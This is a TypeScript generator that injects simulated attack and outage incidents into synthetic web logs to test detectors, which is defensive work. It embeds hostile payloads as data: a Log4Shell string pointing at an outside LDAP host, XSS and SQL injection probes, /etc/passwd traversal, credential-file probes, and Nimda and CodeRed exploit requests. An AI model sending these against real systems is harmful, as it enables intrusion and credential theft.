/**
 * Incidents the scenario generator can inject, one per detector class, each with its own seeded random stream (so
 * the clean traffic is the same with or without incidents) and a description of what a detector should report.
 * Times are offsets from the scenario start, so any start date works.
 */
import type { EpochMs } from '../core/types';
import { API, HEALTH, PAGES, POOLS, POOLS6, poolCidr, type Endpoint } from './catalog';
import { inCidr } from '../enrich/geo/ip';
import { Rng } from './random';
import { diurnal, humanSessionsPerSecond, startHumanSession, type Actor, type Sim } from './scenario';
import type { GenRequest } from './types';

/** What should be found for an injected incident. */
export interface Expected {
  readonly incident: string;
  readonly detector: string;
  readonly subjectType: string;
  /** Subject value, when it is known in advance. */
  readonly subject: string | null;
  readonly startMs: EpochMs;
  readonly endMs: EpochMs;
}

/** The parts of a report finding that say which incident it is (ReportFinding has them). */
export interface FindingKey {
  readonly detector: string;
  readonly subject: { readonly type: string; readonly value: string };
  readonly window: { readonly start: string; readonly end: string };
}

/**
 * Whether a report finding is what `e` expects: its detector, subject type and subject (when known in advance), and
 * a window overlapping e's, with a minute's slack each side. Used by the end-to-end tests and `npm run sweep`.
 */
export function findsIncident(f: FindingKey, e: Expected): boolean {
  return f.detector === e.detector && f.subject.type === e.subjectType && (e.subject === null || f.subject.value === e.subject) &&
    Date.parse(f.window.start) < e.endMs + MIN && e.startMs < Date.parse(f.window.end) + MIN;
}

/** An incident: an actor plus what it should produce. */
export interface Incident {
  readonly id: string;
  readonly description: string;
  readonly actor: Actor;
  readonly expected: Expected;
  /**
   * Not part of `--incident all` (named only): a release changes the ordinary traffic after it, which the other
   * incidents' tests do not expect.
   */
  readonly namedOnly?: boolean;
}

const MIN = 60_000;
const HOUR = 3_600_000;
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
const fixed = (path: string, method = 'GET', medianMs = 30): Endpoint => ({ method, path: () => path, kind: 'api', medianMs, medianBytes: 400 });

/** Schedules `count` requests evenly between t0 and t1 from `client`, each built by `make`. */
function spread(sim: Sim, rng: Rng, t0: EpochMs, t1: EpochMs, count: number, make: (i: number, t: EpochMs, s: Sim) => GenRequest): void {
  for (let i = 0; i < count; i++) {
    const t = t0 + ((t1 - t0) * (i + rng.next() * 0.5)) / count;
    sim.at(t, (s) => make(i, t, s));
  }
}

/**
 * All incident kinds, laid out over a scenario of `hours` (≥ 6) starting at startMs. Attacks have fixed sizes; the
 * legitimate surge is relative to the scenario's ordinary traffic (`requests` over `hours`).
 */
export function allIncidents(startMs: EpochMs, hours: number, seed: number, requests = 150_000): Incident[] {
  const at = (h: number): EpochMs => startMs + h * HOUR;
  const span = hours * HOUR;
  const rng = new Rng(seed * 7919 + 17);
  const list: Incident[] = [];

  // 1. A botnet of 60 addresses in one /24, each modest, together ~1,200 req/min for 12 minutes.
  {
    const t0 = at(hours * 0.3);
    const t1 = t0 + 12 * MIN;
    list.push({
      id: 'botnet-24', description: '60 addresses in 45.155.205.0/24 flooding /search for 12 minutes',
      actor: { start: (sim) => spread(sim, rng, t0, t1, 14_400, (i, t, s) => s.request(t, { ip: `45.155.205.${10 + (i % 60)}`, ua: BROWSER }, PAGES[3]?.[0] ?? HEALTH)) },
      expected: { incident: 'botnet-24', detector: 'burst', subjectType: 'cidr', subject: '45.155.205.0/24', startMs: t0, endMs: t1 },
    });
  }
  // 2. One address bursting at ~700 req/min for 8 minutes.
  {
    const t0 = at(hours * 0.15);
    const t1 = t0 + 8 * MIN;
    list.push({
      id: 'ip-burst', description: 'one address at ~700 req/min for 8 minutes',
      actor: { start: (sim) => spread(sim, rng, t0, t1, 5600, (_i, t, s) => s.request(t, { ip: '185.220.101.45', ua: 'python-requests/2.31.0' }, API[0]?.[0] ?? HEALTH)) },
      expected: { incident: 'ip-burst', detector: 'burst', subjectType: 'ip', subject: '185.220.101.45', startMs: t0, endMs: t1 },
    });
  }
  // 3. A scanner probing sensitive files.
  {
    const t0 = at(hours * 0.45);
    const t1 = t0 + 10 * MIN;
    const probes = ['/.env', '/.git/config', '/wp-login.php', '/phpmyadmin/index.php', '/backup.sql', '/actuator/env', '/.aws/credentials', '/config.php.bak', '/server-status', '/index.php?page=../../etc/passwd'];
    list.push({
      id: 'scanner', description: 'one address probing .env, .git, wp-login, backups and traversal',
      actor: { start: (sim) => spread(sim, rng, t0, t1, 300, (i, t, s) => {
        const p = probes[i % probes.length] ?? '/.env';
        const [path, query] = p.split('?');
        return s.request(t, { ip: '193.32.162.77', ua: 'Mozilla/5.0 zgrab/0.x' }, fixed(path ?? '/'), { status: 404, targetStatus: 404, query: query ?? null });
      }) },
      expected: { incident: 'scanner', detector: 'scanner', subjectType: 'ip', subject: '193.32.162.77', startMs: t0, endMs: t1 },
    });
  }
  // 4. Distributed credential stuffing: 1,500 failed logins from 1,000 addresses, each in its own /16.
  {
    const t0 = at(hours * 0.55);
    const t1 = t0 + 15 * MIN;
    list.push({
      id: 'credential-stuffing', description: '1,500 failed logins on POST /api/v1/login in 15 minutes from 1,000 addresses in 1,000 networks',
      actor: { start: (sim) => spread(sim, rng, t0, t1, 1500, (i, t, s) => s.request(t, { ip: `${91 + (i % 40)}.${(i * 7) % 250}.${(i * 13) % 250}.${(i % 5) + 2}`, ua: BROWSER }, fixed('/api/v1/login', 'POST', 110), { status: 401, targetStatus: 401 })) },
      expected: { incident: 'credential-stuffing', detector: 'credential-stuffing', subjectType: 'endpoint', subject: 'POST /api/v1/login', startMs: t0, endMs: t1 },
    });
  }
  // 5. One target failing: half of its answers are 503 for 10 minutes.
  {
    const t0 = at(hours * 0.65);
    const t1 = t0 + 10 * MIN;
    list.push({
      id: 'target-5xx', description: 'target 10.0.2.63:8080 answers 503 to half of its requests for 10 minutes',
      actor: { start: (sim) => sim.mutators.push((req) => {
        if (req.target === '10.0.2.63:8080' && req.startMs >= t0 && req.startMs < t1 && rng.next() < 0.6) {
          req.status = 503;
          req.targetStatus = 503;
        }
      }) },
      expected: { incident: 'target-5xx', detector: 'error-spike', subjectType: 'target', subject: '10.0.2.63:8080', startMs: t0, endMs: t1 },
    });
  }
  // 6. A lingering endpoint: /api/v1/recommendations gets 8x slower for 40 minutes.
  {
    const t0 = at(hours * 0.75);
    const t1 = t0 + 40 * MIN;
    list.push({
      id: 'lingering-endpoint', description: 'GET /api/v1/recommendations 8x slower for 40 minutes',
      actor: { start: (sim) => sim.mutators.push((req) => {
        if (req.path === '/api/v1/recommendations' && req.startMs >= t0 && req.startMs < t1 && req.targetMs !== null) req.targetMs = Math.round(req.targetMs * 8 + 200);
      }) },
      expected: { incident: 'lingering-endpoint', detector: 'lingering-endpoint', subjectType: 'endpoint', subject: 'GET /api/v1/recommendations', startMs: t0, endMs: t1 },
    });
  }
  // 7. Regional creep: Japan's latency rises steadily over the whole period (x4 by the end).
  {
    const jp = [...(POOLS.find((p) => p[0] === 'JP')?.[1] ?? []).map(poolCidr), `${POOLS6['JP'] ?? '2400:4050'}::/32`];
    list.push({
      id: 'regional-creep', description: 'latency for clients in Japan rises steadily to 4x over the period',
      actor: { start: (sim) => sim.mutators.push((req) => {
        if (req.targetMs !== null && jp.some((net) => inCidr(req.clientIp, net))) {
          const f = 1 + 3 * ((req.startMs - startMs) / span);
          req.targetMs = Math.round(req.targetMs * f + 40 * f);
        }
      }) },
      expected: { incident: 'regional-creep', detector: 'regional-creep', subjectType: 'country', subject: 'JP', startMs, endMs: startMs + span },
    });
  }
  // 8. Sequential identifier enumeration at a polite pace.
  {
    const t0 = at(hours * 0.2);
    const t1 = t0 + 25 * MIN;
    list.push({
      id: 'enumeration', description: 'one client walking /api/v1/users/:id/orders from 20000 upward, one per second',
      actor: { start: (sim) => spread(sim, rng, t0, t1, 1500, (i, t, s) => s.request(t, { ip: '146.70.38.12', ua: 'okhttp/4.9.0' }, fixed(`/api/v1/users/${20_000 + i}/orders`, 'GET', 40))) },
      expected: { incident: 'enumeration', detector: 'api-abuse', subjectType: 'ip', subject: '146.70.38.12', startMs: t0, endMs: t1 },
    });
  }
  // 9. Low and slow: a steady 50 req/min for 3 hours (never near a 10 r/s limit).
  {
    const t0 = at(hours * 0.25);
    const t1 = t0 + 3 * HOUR;
    list.push({
      id: 'low-and-slow', description: 'one client at a steady 50 req/min for 3 hours',
      actor: { start: (sim) => spread(sim, rng, t0, t1, 9000, (_i, t, s) => s.request(t, { ip: '162.55.4.200', ua: BROWSER }, PAGES[1]?.[0] ?? HEALTH)) },
      expected: { incident: 'low-and-slow', detector: 'api-abuse', subjectType: 'ip', subject: '162.55.4.200', startMs: t0, endMs: t1 },
    });
  }
  // 10. A redirect loop: /account → /login → /account ... every 150 ms.
  {
    const t0 = at(hours * 0.35);
    list.push({
      id: 'redirect-loop', description: 'a browser stuck in a /account ↔ /login redirect loop for 300 requests',
      actor: { start: (sim) => {
        for (let i = 0; i < 300; i++) {
          const t = t0 + i * 150;
          sim.at(t, (s) => s.request(t, { ip: '86.133.61.99', ua: BROWSER, port: 50111 }, fixed(i % 2 ? '/login' : '/account'), { status: 302, targetStatus: 302 }));
        }
      } },
      expected: { incident: 'redirect-loop', detector: 'looping-session', subjectType: 'session', subject: null, startMs: t0, endMs: t0 + 300 * 150 },
    });
  }
  // 11. Client-mix shift: a scripted client becomes common in the last third.
  {
    const t0 = at(hours * 0.7);
    const t1 = startMs + span;
    list.push({
      id: 'client-mix', description: 'Go-http-client traffic from many addresses rising in the last third',
      actor: { start: (sim) => spread(sim, rng, t0, t1, Math.round(span / MIN) * 6, (i, t, s) => s.request(t, { ip: `${POOLS[0]?.[1][i % 6] ?? '73.162.14'}.${(i % 200) + 20}`, ua: 'Go-http-client/1.1' }, API[i % 3]?.[0] ?? HEALTH)) },
      expected: { incident: 'client-mix', detector: 'client-mix', subjectType: 'user_agent', subject: 'Go-http-client', startMs, endMs: startMs + span },
    });
  }
  // 12. A legitimate surge: 3x ordinary visitors for 20 minutes (a campaign).
  {
    const t0 = at(hours * 0.85);
    const t1 = t0 + 20 * MIN;
    list.push({
      id: 'legit-surge', description: 'a campaign: 4x ordinary visitors from everywhere for 20 minutes',
      actor: { start: (sim) => {
        // Three times the ordinary arrivals of that hour come on top of them.
        const perSecond = 3 * humanSessionsPerSecond(requests, hours) * diurnal(t0);
        for (let t = t0; t < t1; t += 1000) {
          const n = Math.floor(perSecond + rng.next());
          for (let k = 0; k < n; k++) {
            const when = t + rng.next() * 1000;
            sim.at(when, (s) => {
              startHumanSession(s, when, null);
              return null;
            });
          }
        }
      } },
      expected: { incident: 'legit-surge', detector: 'surge', subjectType: 'global', subject: 'all', startMs: t0, endMs: t1 },
    });
  }
  // ---- Issue 19 (helper "probes"): a scanner without the usual paths. ----
  // 13. An injection scanner behind a browser agent (as Netsparker and Acunetix send): quote, markup, SQL, template
  //     and Log4Shell payloads in the query of real pages, answered 200 with the page, a few 500: no sensitive path,
  //     no 404s, found only by its probe kinds.
  {
    const t0 = at(hours * 0.6);
    const t1 = t0 + 6 * MIN;
    // Its own random stream: the incidents above draw the same numbers with or without it.
    const own = new Rng(seed * 7919 + 1913);
    const payloads = ['a%27b%22c%27d%22', '%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E', '1%27%20AND%201%3D1--%20-', '1%20UNION%20ALL%20SELECT%20NULL%2CNULL--', '%7B%7B7*7%7D%7D', '%24%7Bjndi%3Aldap%3A%2F%2F45.155.205.233%3A12344%2Fa%7D', 'o1rn8%27o1rn8'];
    list.push({
      id: 'injection-scanner', description: 'one address with a browser agent sending injection payloads in the query of /search, answered 200 and some 500',
      actor: { start: (sim) => spread(sim, own, t0, t1, 240, (i, t, s) => s.request(t, { ip: '103.145.13.88', ua: BROWSER }, fixed('/search', 'GET', 80),
        { query: `q=${payloads[i % payloads.length] ?? ''}`, ...(i % 12 === 5 ? { status: 500, targetStatus: 500 } : { status: 200, targetStatus: 200 }) })) },
      expected: { incident: 'injection-scanner', detector: 'scanner', subjectType: 'ip', subject: '103.145.13.88', startMs: t0, endMs: t1 },
    });
  }
  for (const i of campaignIncidents(startMs, hours, seed)) list.push(i);
  list.push(releaseIncident(startMs, hours, seed, requests));
  return list;
}

/**
 * A release deployed halfway through the period (on the minute): from then on GET /api/v1/cart answers 500 to 8% of
 * its requests, GET /api/v1/products/:id takes twice as long, and the checkout step breaks — shoppers (sessions
 * of / → /cart → /checkout, one a minute per 5,000 requests an hour, at least two a minute) mostly reload
 * /cart and leave instead of going on to /checkout. `lbua analyze --change-at <the deploy time>` should report it.
 */
function releaseIncident(startMs: EpochMs, hours: number, seed: number, requests: number): Incident {
  const t0 = Math.floor((startMs + (hours / 2) * HOUR) / MIN) * MIN;
  const rng = new Rng(seed * 104_729 + 31);
  const perMinute = Math.max(2, requests / hours / 5_000);
  const page = (path: string, ms: number): Endpoint => ({ method: 'GET', path: () => path, kind: 'page', medianMs: ms, medianBytes: 30_000 });
  const home = page('/', 35);
  const cart = page('/cart', 45);
  const checkout = page('/checkout', 90);
  return {
    id: 'release',
    description: 'a deploy at mid-period: GET /api/v1/cart answers 500 to 8%, GET /api/v1/products/:id twice as slow, /cart → /checkout mostly broken',
    namedOnly: true,
    actor: {
      start: (sim) => {
        sim.mutators.push((req) => {
          if (req.startMs < t0) return;
          if (req.method === 'GET' && req.path === '/api/v1/cart' && rng.next() < 0.08) {
            req.status = 500;
            req.targetStatus = 500;
          }
          if (req.method === 'GET' && req.path.startsWith('/api/v1/products/') && req.targetMs !== null) req.targetMs = Math.round(req.targetMs * 2 * 10) / 10;
        });
        const [, prefixes] = POOLS[0] ?? ['US', ['73.162.14'], 1];
        for (let t = startMs + rng.exp(60_000 / perMinute); t < startMs + hours * HOUR; t += rng.exp(60_000 / perMinute)) {
          const client = { ip: `${rng.pick(prefixes).split('.').slice(0, 2).join('.')}.${rng.int(0, 255)}.${rng.int(2, 254)}`, ua: BROWSER };
          const at1 = t;
          const at2 = at1 + 5_000 + rng.exp(20_000);
          const at3 = at2 + 5_000 + rng.exp(30_000);
          const broken = at3 >= t0 && rng.next() < 0.8;
          const goesOn = rng.next() < 0.85;
          sim.at(at1, (s) => s.request(at1, client, home, {}, rng));
          sim.at(at2, (s) => s.request(at2, client, cart, {}, rng));
          if (goesOn) sim.at(at3, (s) => s.request(at3, client, broken ? cart : checkout, {}, rng));
        }
      },
    },
    expected: { incident: 'release', detector: 'release-impact', subjectType: 'endpoint', subject: 'GET /api/v1/cart', startMs: t0, endMs: t0 + HOUR },
  };
}

/** Nimda's 16 probes, as a worm host sends them (the `%%35` ones are answered 400 by Apache, the rest 404). */
const NIMDA_PATHS = ['/scripts/root.exe', '/MSADC/root.exe', '/c/winnt/system32/cmd.exe', '/d/winnt/system32/cmd.exe', '/scripts/..%255c../winnt/system32/cmd.exe',
  '/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe', '/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe',
  '/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe', '/scripts/..%c1%1c../winnt/system32/cmd.exe',
  '/scripts/..%c0%2f../winnt/system32/cmd.exe', '/scripts/..%c0%af../winnt/system32/cmd.exe', '/scripts/..%c1%9c../winnt/system32/cmd.exe',
  '/scripts/..%%35%63../winnt/system32/cmd.exe', '/scripts/..%%35c../winnt/system32/cmd.exe', '/scripts/..%25%35%63../winnt/system32/cmd.exe', '/scripts/..%252f../winnt/system32/cmd.exe'];

/**
 * First octets of worm and campaign addresses: European and North American public blocks, away from the ranges the
 * ordinary clients and the Japanese clients of the regional-creep incident come from.
 */
const WORM_OCTETS = [2, 5, 31, 37, 46, 62, 63, 64, 65, 77, 78, 79, 80, 82, 83, 85, 87, 88, 89, 94, 95, 109, 176, 178, 185, 188, 193, 194, 195, 212, 213, 217, 50, 66, 67, 68, 69, 70, 72, 74];

/** Address k of a worm (base 0) or campaign (base 1): one per /24, spread over 40 /16s of public space. */
const wormIp = (base: number, k: number): string => `${WORM_OCTETS[k % 40] ?? 62}.${100 * base + ((k * 7) % 100)}.${Math.floor(k / 40) + 10}.${1 + ((k * 13) % 250)}`;

/**
 * Issue 19's campaign classes, in their own block: a lone client's flood, an exploit campaign over many addresses
 * for the whole period, and the background of worm hosts each probing the same paths (all refused) that must come
 * out as one campaign, not hundreds of per-address findings. Their requests draw from the block's own stream, so
 * the rest of the scenario is drawn as without them.
 */
function campaignIncidents(startMs: EpochMs, hours: number, seed: number): Incident[] {
  const rng = new Rng(seed * 104_729 + 29);
  const span = hours * HOUR;
  const list: Incident[] = [];
  // 14. One address flooding PROPFIND /admin$ (SMB share names over WebDAV): 6,000 requests in 6 minutes, peak 1,600/min.
  {
    const t0 = startMs + Math.round(hours * 0.05 * HOUR);
    const perMinute = [300, 1000, 1600, 1600, 1000, 500];
    list.push({
      id: 'lone-flood', description: 'one address sending 6,000 PROPFIND /admin$ in 6 minutes (peak 1,600/min), answered 404',
      actor: { start: (sim) => perMinute.forEach((n, m) => spread(sim, rng, t0 + m * MIN, t0 + (m + 1) * MIN, n, (_i, t, s) =>
        s.request(t, { ip: '82.82.97.119', ua: 'Microsoft-WebDAV-MiniRedir/5.1.2600' }, fixed('/admin%24', 'PROPFIND'), { status: 404, targetStatus: 404 }, rng))) },
      expected: { incident: 'lone-flood', detector: 'burst', subjectType: 'ip', subject: '82.82.97.119', startMs: t0, endMs: t0 + 6 * MIN },
    });
  }
  // 15. CodeRed from 103 addresses, spread over the whole period.
  {
    const ida = `X${'X'.repeat(223)}%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a`;
    list.push({
      id: 'exploit-campaign', description: '103 addresses sending CodeRed\'s GET /default.ida?XXXX… over the whole period, answered 404',
      actor: { start: (sim) => {
        for (let k = 0; k < 168; k++) {
          const t = startMs + rng.next() * span;
          sim.at(t, (s) => s.request(t, { ip: wormIp(1, k % 103), ua: '-' }, fixed('/default.ida'), { status: 404, targetStatus: 404, query: ida }, rng));
        }
      } },
      expected: { incident: 'exploit-campaign', detector: 'campaign', subjectType: 'signature', subject: 'exploit CodeRed', startMs, endMs: startMs + span },
    });
  }
  // 16. Worm background: 353 hosts, each probing Nimda's 16 paths within a few seconds, all refused.
  {
    list.push({
      id: 'worm-background', description: '353 worm hosts each probing the same 16 Nimda paths, all answered 404/400',
      actor: { start: (sim) => {
        for (let h = 0; h < 353; h++) {
          const t0 = startMs + rng.next() * (span - MIN);
          NIMDA_PATHS.forEach((p, k) => {
            const t = t0 + k * 250;
            sim.at(t, (s) => s.request(t, { ip: wormIp(0, h), ua: '-' }, fixed(p), { status: p.includes('%%35') ? 400 : 404, targetStatus: p.includes('%%35') ? 400 : 404, query: '/c+dir' }, rng));
          });
        }
      } },
      expected: { incident: 'worm-background', detector: 'campaign', subjectType: 'signature', subject: 'exploit Nimda', startMs, endMs: startMs + span },
    });
  }
  return list;
}
